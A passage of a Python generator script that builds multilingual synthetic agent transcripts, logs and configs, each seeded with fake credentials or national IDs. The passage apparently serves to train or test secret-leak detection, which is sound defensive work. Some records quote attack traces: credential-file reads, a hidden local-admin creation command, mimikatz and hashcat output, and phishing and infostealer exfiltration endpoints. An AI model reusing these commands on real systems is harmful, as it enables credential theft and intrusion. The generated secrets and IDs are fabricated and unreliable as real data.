    ("lesson", "La phrase de passe de la clé privée doit venir du coffre, pas du code."),
], DE), _pp)

_pemtxt, _lines = pem("PRIVATE KEY", 1190, PKCS8_PFX)
_kid = sha1h()
S("en", json.dumps({
    "type": "service_account", "project_id": "acme-dwh-prod", "private_key_id": _kid,
    "private_key": _pemtxt + "\n",
    "client_email": "bq-loader@acme-dwh-prod.iam.gserviceaccount.com", "client_id": dg(21),
    "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
}, indent=2) + "\n// ^ pasted by user into data-eng-copilot chat while asking why bq load fails", _lines[7])

_sig = hx(64)
_cred = aws_akid()
S("en", rec([
    ("task", "Share the Q3 export with the external auditor (read-only, 7 days)"),
    ("tool_call", call("aws.s3.presign", {"bucket": "acme-finance-exports", "key": "q3/ledger_2026Q3.parquet", "expires": 604800})),
    ("tool_output", f"https://acme-finance-exports.s3.eu-west-1.amazonaws.com/q3/ledger_2026Q3.parquet?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={_cred}%2F2026{dg(4)}%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=2026{dg(4)}T{dg(6)}Z&X-Amz-Expires=604800&X-Amz-SignedHeaders=host&X-Amz-Signature={_sig}"),
    ("final", "Pre-signed link sent to the auditor by secure mail."),
], DE), _sig)

_ak, _sk = aws_akid(), aws_secret()
S("en", f"""$ cat ~/.aws/credentials
[default]
region = eu-central-1

[dwh-admin]
aws_access_key_id = {_ak}
aws_secret_access_key = {_sk}
# data-eng-copilot {ts()}: long-lived IAM user keys found on shared jump box; open {tk('SEC-', 4)} to rotate + move to SSO""", _sk)

_key = openai_key()
S("ja", rec([
    ("task", "ノートブックで商品レビューの要約パイプラインを試作する"),
    ("tool_output", f"""セル [3]:
import openai
client = openai.OpenAI(api_key="{_key}")
resp = client.chat.completions.create(model="gpt-4o-mini", messages=msgs)"""),
    ("thought", "APIキーがノートブックにハードコードされている。共有前に環境変数へ移す必要がある。"),
], DE), _key)

_pat = databricks_pat()
S("en", rec([
    ("task", "Trigger the backfill job for 2026-10 in Databricks"),
    ("tool_call", call("http.post", {"url": f"https://adb-{nz(16)}.{_r.randint(1, 19)}.azuredatabricks.net/api/2.1/jobs/run-now",
                                      "headers": {"Authorization": f"Bearer {_pat}"}, "body": {"job_id": _r.randint(10**14, 10**15), "job_parameters": {"month": "2026-10"}}})),
    ("tool_output", f'{{"run_id": {nz(15)}, "number_in_job": {nz(15)}}}'),
], DE), _pat)

_pw = pw_alnum(16)
S("es", rec([
    ("task", "El servicio de catálogo no conecta a MongoDB Atlas tras el cambio de cluster"),
    ("tool_output", f"MONGO_URI=mongodb+srv://catalogo_app:{_pw}@cluster-prod.{rs(5, LO + DG)}.mongodb.net/catalogo?retryWrites=true&w=majority"),
    ("thought", "La cadena es correcta; el fallo es la lista de IPs permitidas en Atlas. Hay que rotar la contraseña porque quedó en el log."),
    ("final", "Añadida la IP del NAT a la lista de acceso; servicio recuperado."),
], DE), _pw)

_pw = pw_alnum(24)
S("en", f"""{ts('log')} ERROR celery.worker: Cannot connect to redis://:{_pw}@redis-queue.internal:6379/2: Error 111 connecting to redis-queue.internal:6379. Connection refused.
{ts('log')} WARNING celery.worker: Trying again in 8.00 seconds... (4/100)
# data-eng-copilot: broker URL (with password) is logged on every retry; redis pod was OOM-killed""", _pw)

_pw = pw_alnum(16)
S("zh", rec([
    ("task", "排查报表服务连接 MySQL 超时"),
    ("tool_output", f"spring.datasource.url=jdbc:mysql://{ip10()}:3306/report?useSSL=true&user=report_ro&password={_pw}&connectTimeout=5000"),
    ("thought", "JDBC URL 中直接带了密码，需改为从配置中心读取。"),
    ("final", "连接超时是安全组未放通 3306，已修复。"),
], DE), _pw)

_key = azure_storage_key()
S("en", rec([
    ("task", "Copy raw clickstream files from the legacy storage account to ADLS Gen2"),
    ("tool_call", call("azcopy.env", {"AZURE_STORAGE_CONNECTION_STRING": f"DefaultEndpointsProtocol=https;AccountName=stlegacyclicks;AccountKey={_key};EndpointSuffix=core.windows.net"})),
    ("tool_output", "Job " + guid() + " completed: 18,402 files, 211.4 GiB"),
], DE), _key)

_hmac_id = "GOOG1E" + rs(55, UP + DG)
_hmac_sec = rs(40, B64)
S("pt", rec([
    ("task", "Configurar o Airbyte para gravar no bucket GCS via chave HMAC"),
    ("tool_call", call("airbyte.destination.create", {"type": "gcs", "bucket": "lake-bronze-br", "hmac_key_access_id": _hmac_id, "hmac_key_secret": _hmac_sec})),
    ("tool_output", "check_connection: SUCCEEDED"),
    ("lesson", "Chaves HMAC dão acesso total ao bucket; rodar a cada 90 dias."),
], DE), _hmac_sec)

_tok = vault_token()
S("en", rec([
    ("task", "Read the rotated Snowflake password for the loader from Vault"),
    ("tool_call", call("shell.exec", {"cmd": f"VAULT_ADDR=https://vault.acme.example VAULT_TOKEN={_tok} vault kv get -field=password secret/data-eng/snowflake/loader"})),
    ("tool_output", "********** (value withheld by tool policy)"),
    ("lesson", "Pass the Vault token via the agent's credential helper, not inline."),
], DE), _tok)

_pw = pw_alnum(14)
S("ko", rec([
    ("task", "로그 인덱스 용량 확인 (Elasticsearch 운영 클러스터)"),
    ("tool_call", call("shell.exec", {"cmd": f"curl -s -u elastic:{_pw} https://es-prod.internal:9200/_cat/indices?v&s=store.size:desc | head"})),
    ("tool_output", "health status index            pri rep docs.count store.size\ngreen  open   logs-app-2026.11 3   1   812003311  1.1tb"),
    ("final", "가장 큰 인덱스는 logs-app-2026.11 (1.1TB). ILM 정책 점검 필요."),
], DE), _pw)

_b = base64.b64encode(pw_alnum(20).encode()).decode()
S("en", rec([
    ("task", "Why does the trino-coordinator pod crash-loop after the secret change?"),
    ("tool_call", call("kubectl", {"args": ["get", "secret", "trino-catalog-pg", "-n", "analytics", "-o", "yaml"]})),
    ("tool_output", f"""apiVersion: v1
data:
  connection-password: {_b}
  connection-user: {base64.b64encode(b'trino_ro').decode()}
kind: Secret
metadata:
  name: trino-catalog-pg
  namespace: analytics
  uid: {guid()}
type: Opaque"""),
    ("thought", "Values are only base64-encoded, not encrypted. The password decodes fine; the key name changed instead."),
], DE), _b)

_pw = pw_alnum(16)
S("ru", rec([
    ("task", "Добавить пользователя для BI в ClickHouse"),
    ("tool_call", call("file.write", {"path": "/etc/clickhouse-server/users.d/bi_reader.xml", "content":
        f"<clickhouse><users><bi_reader><password>{_pw}</password><networks><ip>10.0.0.0/8</ip></networks><profile>readonly</profile></bi_reader></users></clickhouse>"})),
    ("tool_output", "Config reloaded"),
    ("lesson", "Использовать password_sha256_hex вместо открытого пароля в XML."),
], DE), _pw)

_tok = hf_token()
S("en", rec([
    ("task", "Download the internal fine-tuned NER model for the doc-classification pipeline"),
    ("tool_call", call("shell.exec", {"cmd": f"HF_TOKEN={_tok} huggingface-cli download acme-ml/ner-invoices-v3 --revision {sha1h()[:12]}"})),
    ("tool_output", "Fetching 9 files: 100%|##########| 9/9"),
], DE), _tok)

_pw = pw_alnum(18)
S("hi", rec([
    ("task", "रिपोर्टिंग सर्वर से Postgres पर बिना पासवर्ड प्रॉम्प्ट के कनेक्ट करना है"),
    ("tool_call", call("file.write", {"path": "/home/etl/.pgpass", "mode": "0600", "content": f"pg-report.internal:5432:reporting:etl_user:{_pw}\n"})),
    ("tool_output", "ok"),
    ("final", ".pgpass बना दिया गया; cron job अब चल रहा है।"),
], DE), _pw)

_rt = google_refresh()
S("en", rec([
    ("task", "The nightly bq export runs as a user ADC on the VM and started failing with invalid_grant"),
    ("tool_call", call("file.read", {"path": "/home/etl/.config/gcloud/application_default_credentials.json"})),
    ("tool_output", json.dumps({"client_id": f"{nz(12)}-{rs(32, LO + DG)}.apps.googleusercontent.com", "client_secret": gocspx(),
                                 "refresh_token": _rt, "type": "authorized_user"}, indent=1)),
    ("thought", "User credentials on a server are fragile; switch to a service account with workload identity."),
], DE), _rt)

_pw = pw_alnum(16)
S("it", rec([
    ("task", "Creare il connettore Debezium per la tabella ordini"),
    ("tool_call", call("http.post", {"url": "http://kafka-connect:8083/connectors", "body": {"name": "ordini-cdc", "config": {
        "connector.class": "io.debezium.connector.postgresql.PostgresConnector", "database.hostname": "pg-ordini",
        "database.user": "debezium", "database.password": _pw, "database.dbname": "ordini", "topic.prefix": "ordini"}}})),
    ("tool_output", "201 Created"),
    ("lesson", "Usare il FileConfigProvider per non esporre la password nell'API REST di Connect."),
], DE), _pw)

_pw = pw_human()
S("id", rec([
    ("user", f"Mas, akun Snowflake saya ANALIS_RINA tidak bisa login. Password terakhir saya {_pw} , apa sudah kedaluwarsa?"),
    ("thought", "Pengguna menulis password di chat. Reset dan minta ganti."),
    ("tool_call", call("snowflake.sql", {"query": "ALTER USER ANALIS_RINA SET MUST_CHANGE_PASSWORD = TRUE"})),
    ("reply", "Password sudah direset. Jangan kirim password lewat chat ya."),
], DE), _pw)

_pw = "p" + pw_rand(15, "@:/#%")
_enc = urllib.parse.quote(_pw, safe="")
S("en", rec([
    ("task", "Schema-registry client gets 401 after the password rotation"),
    ("tool_output", f"schema.registry.url=https://sr_client:{_enc}@psrc-{rs(5, LO + DG)}.europe-west3.gcp.confluent.cloud"),
    ("thought", "Special characters are URL-encoded correctly; the 401 comes from the old API key being disabled."),
], DE), _enc)

_sec = rs(24, AN)
S("th", rec([
    ("task", "เชื่อมต่อ Looker API เพื่อดึงรายการแดชบอร์ดที่ไม่มีคนใช้"),
    ("tool_call", call("file.write", {"path": "looker.ini", "content": f"[Looker]\nbase_url=https://acme.cloud.looker.com\nclient_id={rs(20, AN)}\nclient_secret={_sec}\nverify_ssl=True"})),
    ("tool_output", "42 dashboards with 0 views in 180 days"),
    ("final", "ส่งรายการแดชบอร์ดให้ทีม BI พิจารณาลบแล้ว"),
], DE), _sec)

_tok = "dbtc_" + rs(56, B64U)
S("en", f"""{ts('log')} [ci] Run dbt Cloud job
{ts('log')} [ci] + curl -X POST https://cloud.getdbt.com/api/v2/accounts/{nz(5)}/jobs/{nz(6)}/run/ -H 'Authorization: Token {_tok}' -d '{{"cause":"merge to main"}}'
{ts('log')} [ci] {{"status":{{"code":200,"is_success":true}},"data":{{"id":{nz(9)}}}}}
# data-eng-copilot: CI echoes commands (set -x), service token printed in clear""", _tok)

_fk = b64u(_r.randbytes(32)) + "="
S("vi", rec([
    ("task", "Di chuyển Airflow sang cụm Kubernetes mới, các connection không giải mã được"),
    ("thought", "Nguyên nhân: fernet_key khác giữa hai môi trường. Lấy khóa cũ từ airflow.cfg."),
    ("tool_output", f"[core]\nexecutor = CeleryExecutor\nfernet_key = {_fk}\nload_examples = False"),
    ("final", "Đã đặt cùng fernet_key cho môi trường mới, các connection đọc được bình thường."),
], DE), _fk)

# ---- F. mobile & desktop app support --------------------------------------
_section("F")
_sp = pw_alnum(16)
_kp = pw_alnum(16)
S("en", rec([
    ("task", "Release build of the Android app fails: 'Keystore was tampered with, or password was incorrect'"),
    ("tool_call", call("file.read", {"path": "android/gradle.properties"})),
    ("tool_output", f"org.gradle.jvmargs=-Xmx4g\nandroid.useAndroidX=true\nRELEASE_STORE_FILE=../keystores/acme-release.jks\nRELEASE_STORE_PASSWORD={_sp}\nRELEASE_KEY_ALIAS=acme\nRELEASE_KEY_PASSWORD={_kp}"),
    ("thought", "Store password is present but the keystore in CI is an older copy. Passwords should come from CI secrets, not the repo."),
], APP), _sp)

_key = "AAAA" + rs(7, B64U) + ":APA91b" + rs(134, B64U)
S("en", rec([
    ("task", "Push notifications stopped for the legacy iOS/Android build 4.2"),
    ("tool_output", f"POST https://fcm.googleapis.com/fcm/send\nAuthorization: key={_key}\nContent-Type: application/json\n\n<- 404 Not Found (legacy API shut down)"),
    ("final", "Legacy FCM API is gone; build 4.2 must migrate to HTTP v1. Old server key should be deleted from the project."),
], APP), _key)

_lk = lic_key()
S("de", rec([
    ("user", f"Nach dem Windows-Update fragt CAD-Pro wieder nach der Lizenz. Mein Schlüssel ist {_lk}, der wird aber abgelehnt."),
    ("tool_call", call("licensing.lookup", {"key_hash": sha256h()[:16], "product": "CADPRO-2026"})),
    ("tool_output", "activations: 2/2 used (WS-MUC-0191, WS-MUC-0207)"),
    ("reply", "Der Schlüssel ist auf zwei Rechnern aktiv. Ich habe WS-MUC-0191 deaktiviert, bitte erneut aktivieren."),
], APP), _lk)

_pemtxt, _lines = pem("PRIVATE KEY", 120, EC_P8_PFX)
_kid = rs(10, UP + DG)
S("en", rec([
    ("task", "Fastlane cannot upload to TestFlight: 'Authentication credentials are missing or invalid'"),
    ("tool_call", call("file.read", {"path": f"fastlane/AuthKey_{_kid}.p8"})),
    ("tool_output", _pemtxt),
    ("thought", f"Key ID {_kid} was revoked in App Store Connect; generate a new key and store it in the CI secret store."),
], APP), _lines[1])

_pin = pin(6)
S("es", rec([
    ("user", f"No puedo entrar en la app del banco, me pide el PIN y pongo {_pin} pero dice que es incorrecto."),
    ("thought", "El usuario ha escrito su PIN en el chat. No usarlo; indicar el restablecimiento."),
    ("reply", "Por seguridad no comparta su PIN. Puede restablecerlo desde 'Olvidé mi PIN' con su DNI y el SMS de verificación."),
], APP), _pin)

_tok = "sntrys_" + b64u(json.dumps({"iat": int(ts("epoch")), "url": "https://sentry.io", "region_url": "https://de.sentry.io", "org": "acme"}).encode()) + "_" + rs(43, B64U)
S("en", f"""# .github/workflows/release.yml (excerpt)  -- reviewed by app-support-bot
      - name: Upload dSYMs
        env:
          SENTRY_ORG: acme
          SENTRY_PROJECT: ios-app
          SENTRY_AUTH_TOKEN: {_tok}
        run: sentry-cli debug-files upload --include-sources build/dSYMs
# finding: auth token is hard-coded instead of ${{{{ secrets.SENTRY_AUTH_TOKEN }}}}""", _tok)

_pk = "-".join(rs(5, "BCDFGHJKMPQRTVWXY2346789") for _ in range(5))
S("fr", rec([
    ("task", "Réactivation de Windows sur le poste d'accueil après changement de carte mère"),
    ("tool_call", call("powershell.run", {"script": f"slmgr /ipk {_pk}; slmgr /ato"})),
    ("tool_output", "Erreur : 0xC004C008 Le serveur d'activation a signalé que la clé de produit a dépassé son nombre de déverrouillages."),
    ("final", "Clé épuisée ; demande d'une licence supplémentaire auprès du service achats."),
], APP), _pk)

_tok = rs(40, B64U)
S("en", rec([
    ("task", "EAS build for the field-service app fails in CI"),
    ("tool_output", f"$ EXPO_TOKEN={_tok} eas build --platform ios --non-interactive\n✖ Build failed: Provisioning profile expired"),
    ("thought", "Token fine; profile expired. Also: the CI log shows the token because the step echoes the command."),
], APP), _tok)

_asp = "-".join(rs(4, LO) for _ in range(4))
S("pt", rec([
    ("user", f"Configurei o e-mail do iCloud no Thunderbird com a senha específica de app {_asp}, mas continua a pedir senha."),
    ("thought", "O utilizador partilhou a senha específica de app. Pedir que a revogue e gere outra."),
    ("reply", "Verifique se o servidor SMTP é smtp.mail.me.com porta 587. Por favor revogue essa senha de app em appleid.apple.com, pois foi partilhada aqui."),
], APP), _asp)

_rt = "rt_" + rs(64, B64U)
S("en", rec([
    ("task", "Desktop client (Electron) keeps logging users out every hour"),
    ("tool_call", call("file.read", {"path": "%APPDATA%\\AcmeDesk\\session.json"})),
    ("tool_output", json.dumps({"user": "k.mensah@acme.example", "access_token_expires_at": ts(), "refresh_token": _rt, "device_id": guid()})),
    ("thought", "Refresh token stored unencrypted; refresh call fails because clock skew > 5 min on the laptop."),
], APP), _rt)

_lk = "-".join(rs(4, UP + DG) for _ in range(6))
S("ar", rec([
    ("user", f"أحتاج تفعيل برنامج المحاسبة على الجهاز الجديد. مفتاح الترخيص: {_lk}"),
    ("tool_call", call("licensing.activate", {"key": _lk, "machine": "PC-RUH-" + dg(4)})),
    ("tool_output", "activated; seats 4/5"),
    ("reply", "تم التفعيل بنجاح. يرجى عدم نشر مفتاح الترخيص في المحادثات العامة."),
], APP), _lk)

_sess = rs(32, LO + DG)
S("en", rec([
    ("task", "Customer's HAR file for the checkout bug (web app)"),
    ("tool_output", f'''"request": {{"method": "POST", "url": "https://shop.acme.example/api/cart/checkout",
  "headers": [{{"name": "Cookie", "value": "sessionid={_sess}; csrftoken={rs(32)}; _ga=GA1.1.{nz(9)}.{ts('epoch')}"}},
              {{"name": "X-Request-Id", "value": "{guid()}"}}]}}'''),
    ("thought", "HAR contains a live session cookie; anyone could hijack the session until it expires. Invalidate the session server-side."),
], APP), _sess)

_pw = pw_human()
S("tr", rec([
    ("user", f"Uygulamaya giriş yapamıyorum. E-posta: deniz.k@ornek.com şifre: {_pw} . Neden hata veriyor?"),
    ("tool_call", call("auth.audit", {"email": "deniz.k@ornek.com", "hours": 24})),
    ("tool_output", "5 failed logins, account temporarily locked until " + ts()),
    ("reply", "Hesabınız geçici olarak kilitlendi. Şifrenizi burada paylaştığınız için lütfen 'Şifremi unuttum' ile yenileyin."),
], APP), _pw)

_pw = pw_rand(14)
S("en", f"""PS C:\\build> signtool sign /f .\\certs\\acme-codesign.pfx /p {_pw} /fd SHA256 /tr http://timestamp.digicert.com /td SHA256 .\\out\\AcmeDesk-Setup-5.3.1.exe
Done Adding Additional Store
Successfully signed: .\\out\\AcmeDesk-Setup-5.3.1.exe
# app-support-bot: PFX password visible in build log {guid()}""", _pw)

_code = pin(6)
S("uk", rec([
    ("user", f"Службовий iPhone заблокувався після оновлення. Код-пароль був {_code}, але він не приймається."),
    ("thought", "Користувач написав код-пароль пристрою. Пристрій під MDM — можна надіслати команду скидання коду."),
    ("tool_call", call("mdm.clear_passcode", {"udid": hx(40)})),
    ("reply", "Код-пароль скинуто через MDM. Будь ласка, встановіть новий і не пишіть його в чат."),
], APP), _code)

_b = base64.b64encode(f"api_user:{pw_alnum(14)}".encode()).decode()
S("en", f"""{ts('log')} D/OkHttp: --> GET https://api.fieldapp.acme.example/v1/jobs?assignee=me
{ts('log')} D/OkHttp: Authorization: Basic {_b}
{ts('log')} D/OkHttp: X-App-Version: 7.12.0 (build {nz(5)})
{ts('log')} D/OkHttp: <-- 200 OK (412ms)
# app-support-bot: customer's logcat; HttpLoggingInterceptor at BODY level in release build""", _b)

# ---- G. security operations -----------------------------------------------
_section("G")
_ak, _sk = aws_akid(), aws_secret()
_sha = sha1h()
S("en", rec([
    ("task", f"Triage GitHub secret-scanning alert #{_r.randint(100, 999)} in acme/etl-scripts"),
    ("tool_call", call("github.secret_scanning.alert", {"repo": "acme/etl-scripts", "number": _r.randint(100, 999)})),
    ("tool_output", f"secret_type=aws_access_key_id commit={_sha} path=jobs/sync_s3.py line=14\n  14: s3 = boto3.client('s3', aws_access_key_id='{_ak}', aws_secret_access_key='{_sk}')"),
    ("thought", "Key pair is valid (sts get-caller-identity succeeded for user etl-legacy). Deactivate immediately, then rewrite history."),
    ("final", "Key deactivated at " + ts() + "; CloudTrail shows no use from unknown IPs."),
], SOC), _sk)

_pw = pw_human()
S("en", f"""ALERT  id={guid()} rule="Local account created via net.exe" severity=high host=SRV-FILE-07
  time={ts('isoms')}
  user=CORP\\it-temp02  parent=cmd.exe (pid {_r.randint(1000, 9999)})
  process=C:\\Windows\\System32\\net.exe
  command_line="net user helpdesk_tmp {_pw} /add /y && net localgroup administrators helpdesk_tmp /add"
  sha256={sha256h()}
soc-analyst note: command line contains the cleartext password of the new local admin; treat as compromised""", _pw)

_pw = pw_human()
S("de", rec([
    ("task", f"Phishing-Analyse Meldung {tk('PH-', 5)}: gefälschte Microsoft-Anmeldeseite"),
    ("thought", "Die Phishing-Seite postet an ein Telegram-Backend; wir haben den Request aus dem Proxy-Log."),
    ("tool_output", f"POST https://m1crosoft-login.example-bad.top/next.php  body: login=t.mueller%40firma.de&passwd={urllib.parse.quote(_pw)}&i13=0"),
    ("final", "Benutzer t.mueller hat sein Passwort eingegeben. Passwort zurückgesetzt, Sitzungen widerrufen, MFA geprüft."),
], SOC), urllib.parse.quote(_pw))

_hook = slack_webhook()
S("en", f"""## Incident write-up {tk('IR-2026-', 3)} (draft)
**Summary:** A Slack incoming-webhook URL was committed to the public repo acme/status-widgets ({sha1h()[:7]}) and used to post spam into #general.
**Leaked value:** `{_hook}`
**Timeline:** first spam {ts()}, webhook revoked {ts()}.
**Lessons:** treat webhook URLs as secrets; enable push protection on public repos.""", _hook)

_pat = "glpat-" + rs(20, B64U)
S("fr", rec([
    ("task", "Alerte CTI : un jeton GitLab de l'entreprise apparaît sur un site de paste"),
    ("tool_output", f"paste {rs(8)}  ({ts()}):\n  git clone https://oauth2:{_pat}@gitlab.entreprise.example/infra/terraform-prod.git"),
    ("thought", "Jeton personnel du compte svc-ci-terraform, portée api + write_repository. Révocation immédiate."),
    ("final", "Jeton révoqué, journaux d'audit GitLab vérifiés : aucun clone externe."),
], SOC), _pat)

_pw = pw_rand(14)
S("en", f"""EDR detection {guid()} on host WS-FIN-{dg(4)}: Credential dumping (LSASS)
  Tool output captured from process memory (mimikatz sekurlsa::logonpasswords):
    Authentication Id : 0 ; {nz(7)} (00000000:{hx(8)})
    User Name         : j.harper
    Domain            : CORP
         * NTLM     : [hash withheld by EDR]
         * Password : {_pw}
soc-analyst: cleartext (wdigest) credential exposed; reset j.harper immediately and disable WDigest via GPO""", _pw)

_pw = pw_human()
S("ru", rec([
    ("task", "Разбор лога стилера из Telegram-канала, найдены корпоративные учётки"),
    ("tool_output", f"URL: https://vpn.kompaniya.example/+CSCOE+/logon.html\nUSER: a.sokolov\nPASS: {_pw}\nSOFT: Chrome (Default)"),
    ("thought", "Проверить, совпадает ли пароль с текущим, и принудительно сменить."),
    ("final", "Пароль актуален — сменён, сессии VPN сброшены."),
], SOC), _pw)

_sk = stripe_sk()
S("en", rec([
    ("task", "Bug bounty report BB-" + dg(4) + ": 'Secret key in JS bundle'"),
    ("tool_output", f"https://checkout.acme.example/static/js/main.{hx(8)}.js:1:88412  const s=\"{_sk}\";fetch(\"/api/pay\",..."),
    ("thought", "Confirmed: a live secret key, not the publishable one. Roll the key in the Stripe dashboard now."),
], SOC), _sk)

_tok = slack_bot()
S("ja", rec([
    ("task", "社内リポジトリで Slack ボットトークンの漏えい検知"),
    ("tool_output", f"config/settings.py:22: SLACK_BOT_TOKEN = \"{_tok}\""),
    ("thought", "トークンは有効。Slack 管理画面で即時失効させ、リポジトリ履歴を書き換える。"),
    ("final", "失効済み。監査ログに不審な API 呼び出しはなし。"),
], SOC), _tok)

_hec = guid()
S("en", f"""# $SPLUNK_HOME/etc/apps/acme_outputs/local/outputs.conf  (found world-readable on jump host during audit {tk('AUD-', 4)})
[httpout]
httpEventCollectorToken = {_hec}
uri = https://hec.splunk.acme.example:8088
batchSize = 65536
# soc-analyst: HEC token is a GUID but it IS a credential (anyone can write events into index=main)""", _hec)

_pw = pw_human()
S("es", rec([
    ("task", "Informe de credential stuffing contra el portal de clientes (últimas 24 h)"),
    ("tool_output", f"éxitos: 3\n  cliente 7781{dg(4)}  email m.garcia@correo.example  password={_pw}  ip={ipdoc()}"),
    ("thought", "El WAF registra la contraseña en claro en el log de éxitos. Hay que bloquear esas 3 cuentas y quitar el campo del log."),
], SOC), _pw)

_sec = rs(40, AN)
S("en", rec([
    ("task", "Wire CrowdStrike containment into the SOAR playbook 'isolate-host'"),
    ("tool_call", call("soar.asset.configure", {"asset": "crowdstrike_falcon", "base_url": "https://api.eu-1.crowdstrike.com",
                                                 "client_id": hx(32), "client_secret": _sec})),
    ("tool_output", "test connectivity: PASSED (token acquired, expires_in=1799)"),
], SOC), _sec)

_pan = pan("62" + dg(4), 16)
S("zh", rec([
    ("task", "分析钓鱼短信“积分兑换”落地页，受害者提交的数据被回传至攻击者接口"),
    ("tool_output", f"POST /api/submit  name=王*  card={_pan}  exp=0828  cvv={dg(3)}  phone=139****{dg(4)}"),
    ("thought", "回传数据包含完整卡号，需通知发卡行冻结。"),
    ("final", "已通知发卡行并提交域名下架请求。"),
], SOC), _pan)

_tok = telegram_bot()
S("en", rec([
    ("task", "Extract config from phishing kit 'office365-v7.zip' (sample sha256 " + sha256h()[:16] + "...)"),
    ("tool_output", f"$bot_token = \"{_tok}\";\n$chat_id = \"-100{nz(10)}\";\n$redirect = \"https://www.office.com\";"),
    ("thought", "Bot token lets anyone read the exfil channel; report to Telegram abuse, do not use it ourselves."),
], SOC), _tok)

_pw = pw_rand(16)
S("pl", rec([
    ("task", "Przegląd źródeł aplikacji po zgłoszeniu pentestera"),
    ("tool_output", f"static/js/app.{hx(8)}.js.map -> src/config.ts:\n  export const DB = {{ host: 'pg-prod.internal', user: 'app', password: '{_pw}' }};"),
    ("thought", "Hasło do bazy produkcyjnej trafiło do source mapy opublikowanej w internecie. Natychmiastowa rotacja."),
], SOC), _pw)

_id, _k = rs(20, B64U), rs(22, B64U)
_ek = base64.b64encode(f"{_id}:{_k}".encode()).decode()
S("en", f"""# /etc/logstash/conf.d/90-output.conf
output {{
  elasticsearch {{
    hosts   => ["https://es-siem-01:9200"]
    api_key => "{_id}:{_k}"
    index   => "siem-fw-%{{+YYYY.MM.dd}}"
  }}
}}
# soc-analyst {ts()}: same key also appears base64-encoded in curl history: Authorization: ApiKey {_ek}""", _k)

_key = google_api_key()
S("ko", rec([
    ("task", "외부 제보: 모바일 앱 디컴파일 결과 서버용 API 키가 노출됨"),
    ("tool_output", f"res/values/strings.xml: <string name=\"maps_server_key\">{_key}</string>"),
    ("thought", "이 키는 IP 제한 없는 서버 키로 확인됨. 즉시 폐기하고 재발급."),
], SOC), _key)

_pemtxt, _lines = pem("OPENSSH PRIVATE KEY", 380, OSSH_PFX, 70)
S("en", rec([
    ("task", "Forensic triage of compromised build agent ba-linux-14"),
    ("tool_call", call("forensics.read_file", {"host": "ba-linux-14", "path": "/home/runner/.ssh/id_ed25519"})),
    ("tool_output", _pemtxt),
    ("thought", "Deploy key for github.com:acme/infra; attacker likely copied it. Remove from GitHub and rotate."),
], SOC), _lines[2])

_hook = discord_webhook()
S("nl", rec([
    ("task", "Analyse van een infostealer-sample uit de mailgateway-quarantaine"),
    ("tool_output", f"strings: ... exfil_url={_hook} ... mutex=Global\\\\{hx(8)}"),
    ("thought", "De Discord-webhook is de exfiltratieroute. Melden bij Discord; zelf niet gebruiken."),
], SOC), _hook)

_j = jwt({"sub": "u_" + dg(7), "email": "cfo@acme.example", "roles": ["finance_admin"], "iat": int(ts("epoch")), "exp": int(ts("epoch")) + 3600}, kid=hx(16))
S("en", f"""{ts('log')} proxy-gw access: {ip10()} "GET /api/finance/approvals HTTP/2" 200 ua="Mozilla/5.0" authorization="Bearer {_j}"
# soc-analyst: proxy logs full Authorization header; token belongs to the CFO session and was valid at capture time""", _j)

_pw = pw_human()
S("he", rec([
    ("task", "תחקיר אירוע: סיסמה של חשבון שירות נחשפה בערוץ Teams"),
    ("tool_output", f"הודעה מ-{ts()}: \"הסיסמה של svc_backup היא {_pw} אם מישהו צריך\""),
    ("thought", "הסיסמה נחשפה ל-140 משתמשים. להחליף מיד ולמחוק את ההודעה."),
], SOC), _pw)

_pw = pw_human()
S("en", rec([
    ("task", "Purple-team exercise: report Kerberoasting results"),
    ("tool_output", f"hashcat -m 13100 tgs.txt rockyou.txt -r best64.rule\n$krb5tgs$23$*svc_sql$CORP.EXAMPLE$MSSQLSvc/sql01.corp.example:1433*$...:{_pw}\nSession..........: hashcat\nStatus...........: Cracked"),
    ("final", f"svc_sql cracked in 4 minutes. Recommend gMSA and 25+ char passwords."),
], SOC), _pw)

_key = rs(32, AN)
S("th", rec([
    ("task", "ตรวจพบ API key ของระบบ HR หลุดใน Pastebin"),
    ("tool_output", f"X-HR-Api-Key: {_key}   # ใช้สำหรับ sync พนักงาน"),
    ("thought", "ยืนยันแล้วว่า key ยังใช้งานได้ ต้องยกเลิกทันทีและตรวจสอบ log การเรียกใช้"),
], SOC), _key)

_pat = "github_pat_" + rs(22, AN) + "_" + rs(59, AN)
S("en", rec([
    ("task", "Developer reports he pasted a token into a public gist by mistake"),
    ("tool_output", f"gist {hx(32)} (public): export GH_TOKEN={_pat}"),
    ("thought", "Fine-grained PAT with contents:write on acme/payments-api. Revoke via org settings and review audit log."),
], SOC), _pat)

# ---- H. legal / compliance / audit (national ids with valid check digits) -
_section("H")
_ssn = ssn_us()
S("en", rec([
    ("task", "SOC 2 evidence sampling: verify HR offboarding for 25 leavers"),
    ("tool_call", call("hris.export", {"report": "terminations_q3", "fields": ["emp_id", "name", "ssn", "term_date"]})),
    ("tool_output", f"emp_id,name,ssn,term_date\nE{dg(6)},Dana Whitfield,{_ssn},{ts('date')}\nE{dg(6)},Marco Ruiz,***-**-{dg(4)},{ts('date')}"),
    ("thought", "The export should not include SSNs at all; one row is unmasked. Re-run with the masked field set."),
], LEG), _ssn)

_sin = sin_ca()
S("en", f"""From: payroll-ca@acme.example
To: compliance-auditor (agent inbox)
Subject: FW: new hire docs - Toronto
Date: {ts()}

> Employee: Priya Raman   Start: {ts('date')}
> SIN: {_sin}
> Direct deposit form attached.
Auditor note: SIN sent over plain email; log as finding PRIV-{dg(3)}.""", _sin)

_nir = nir_fr()
S("fr", rec([
    ("task", "Audit RGPD du service paie : recherche de données sensibles dans les tickets"),
    ("tool_output", f"Ticket {tk('RH-', 5)} : « Merci de corriger ma mutuelle, mon numéro de sécu est {_nir[0]} {_nir[1:3]} {_nir[3:5]} {_nir[5:7]} {_nir[7:10]} {_nir[10:13]} {_nir[13:]} »"),
    ("thought", "Numéro de sécurité sociale complet (clé valide) dans un ticket non restreint."),
    ("final", "Constat n°7 : purger le ticket et restreindre la file RH."),
], LEG), f"{_nir[0]} {_nir[1:3]} {_nir[3:5]} {_nir[5:7]} {_nir[7:10]} {_nir[10:13]} {_nir[13:]}")

_b = bsn()
S("nl", rec([
    ("task", "AVG-audit: steekproef in het klantcontactsysteem op BSN's in vrije tekst"),
